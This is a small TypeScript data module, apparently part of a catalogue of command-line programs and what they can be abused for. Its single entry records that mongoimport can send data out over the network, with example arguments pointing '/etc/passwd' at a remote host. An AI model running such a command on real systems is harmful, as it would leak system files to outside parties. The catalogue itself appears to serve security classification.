import type { Program } from '../program.ts';

export default (): readonly Program[] => [
  {
    prefix: 'mongoimport',
    powers: [{ can: 'network-out', words: '--uri mongodb://example.com --file /etc/passwd', mild: true }],
    source: ['docs:mongoimport'],
    confidence: 'high',
  },
];
